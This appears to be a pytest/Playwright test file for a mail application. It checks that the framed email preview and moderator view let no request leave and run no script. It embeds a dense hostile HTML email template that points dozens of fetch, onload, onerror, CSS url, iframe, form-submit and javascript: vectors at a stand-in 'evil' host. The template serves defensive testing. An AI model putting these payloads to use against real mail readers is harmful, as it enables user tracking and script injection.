"""A hostile mail in the frames where mails are looked at: no byte leaves, no script runs (P9.4).

The frames' own headers stay; the mail inside is replaced by the worst that we know. What would
be asked for stands on a server of this test, which hears even a connection without a request.
"""

import socket
import threading
from collections.abc import Iterator
from contextlib import suppress
from typing import Any

import pytest
from django.conf import settings
from playwright.sync_api import Page, Route

from mail.framing import framed
from tests.browser.test_writing import editor, refused, saved  # noqa: F401  fixtures
from tests.staff.conftest import look, url_of, waiting_campaign, with_second_factor

HOSTILE = """<!doctype html><html><head>
<base href="{evil}/"><meta http-equiv="refresh" content="0;url={evil}/refresh">
<link rel="stylesheet" href="{evil}/sheet"><link rel="preload" as="image" href="{evil}/preload">
<link rel="prefetch" href="{evil}/prefetch"><link rel="preconnect" href="{evil}">
<link rel="dns-prefetch" href="{evil}"><link rel="icon" href="{evil}/icon">
<link rel="modulepreload" href="{evil}/module"><link rel="manifest" href="{evil}/manifest">
<style>@import "{evil}/import"; @font-face {{ font-family: e; src: url({evil}/font) }}
body {{ font-family: e; background: url({evil}/background); cursor: url({evil}/cursor), auto }}
p::before {{ content: url({evil}/content) }} @namespace url({evil}/space);
li {{ list-style-image: image-set("{evil}/set" 1x) }}</style>
<script>fetch("{evil}/script"); top.hacked = 1; document.title = "hacked"</script>
<script src="{evil}/script"></script><script type="module">import "{evil}/module"</script>
</head><body background="{evil}/body" onload="fetch('{evil}/onload'); top.hacked = 1">
<p id="words">A hostile mail</p><ul><li>one</li></ul>
<img src="{evil}/img" srcset="{evil}/srcset 2x"><img src=x onerror="fetch('{evil}/onerror')">
<picture><source srcset="{evil}/source"><img src="relative"></picture>
<table background="{evil}/table"><tr><td style="background:url({evil}/style)">x</td></tr></table>
<svg xmlns="http://www.w3.org/2000/svg" onload="top.hacked = 1"><image href="{evil}/svg"/>
<use href="{evil}/use#a"/><script>top.hacked = 1</script>
<foreignObject><iframe src="{evil}/foreign"></iframe></foreignObject></svg>
<iframe src="{evil}/frame"></iframe><iframe srcdoc="<img src='{evil}/srcdoc'>"></iframe>
<object data="{evil}/object"></object><embed src="{evil}/embed">
<video src="{evil}/video" poster="{evil}/poster" autoplay></video><audio src="{evil}/audio"></audio>
<form action="{evil}/form" method="post" target="_top"><input name="q" autofocus
 onfocus="this.form.submit()"><input type="image" src="{evil}/image"><button id="send">go</button>
</form><a id="link" href="{evil}/link" ping="{evil}/ping">link</a>
<a id="blank" href="{evil}/blank" target="_blank">other</a>
<a id="top" href="{evil}/top" target="_top">top</a>
<a id="js" href="javascript:top.hacked = 1">js</a></body></html>"""


class Ear:
    """Hears who connects to a port, also who asks for nothing, and hangs up."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        self.door = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self.door.getsockname()[1]}"
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        with suppress(OSError):
            while True:
                caller, _ = self.door.accept()
                self.heard.append("a connection")
                caller.settimeout(0.3)
                with suppress(OSError):
                    self.heard[-1] = caller.recv(200).decode().split("\r\n")[0] or "no request"
                caller.close()


@pytest.fixture
def evil() -> Iterator[Ear]:
    ear = Ear()
    yield ear
    ear.door.close()


def read_hostile(page: Page, evil: Ear, part: str, path: str = "") -> Any:
    """Open `path`, or go on where the page is, with the hostile mail in the frame; press all."""

    def hostile(route: Route) -> None:
        route.fulfill(response=route.fetch(), body=framed(HOSTILE.format(evil=evil.url)).content)

    page.route(lambda url: part in url, hostile)
    page.goto(path) if path else page.reload()
    frame = page.frame_locator(f"iframe[src*='{part}']")
    frame.locator("#words").wait_for()
    page.wait_for_timeout(700)
    here = page.url
    for what in ("send", "js", "blank", "top", "link"):
        frame.locator(f"#{what}").click(timeout=3000, no_wait_after=True)
        page.wait_for_timeout(150)
    assert page.url == here
    assert page.evaluate("window.hacked") is None
    assert len(page.context.pages) == 1
    return frame


@pytest.mark.policy("P9.4", "P6.1")
def test_the_ear_hears(page: Page, evil: Ear) -> None:
    """Without a frame's policy the same mail is heard: the tests below can fail."""
    page.set_content(HOSTILE.format(evil=evil.url), wait_until="commit")
    page.wait_for_timeout(700)
    assert len(evil.heard) > 3


@pytest.mark.policy("P6.1")
def test_the_preview_lets_nothing_out(editor: Page, evil: Ear) -> None:  # noqa: F811
    read_hostile(editor, evil, "/preview/")
    assert evil.heard == []


@pytest.mark.policy("P9.4", "P6.1")
def test_the_moderators_frame_lets_nothing_out(
    page: Page, acme: Any, staff: Any, live_url: str, evil: Ear
) -> None:
    campaign = waiting_campaign(acme)
    moderator = with_second_factor(staff)
    look(moderator, campaign)
    name = settings.SESSION_COOKIE_NAME
    value = moderator.cookies[name].value
    page.context.add_cookies([{"name": name, "value": value, "url": live_url}])
    read_hostile(page, evil, "/letter/", url_of(campaign))
    assert evil.heard == []
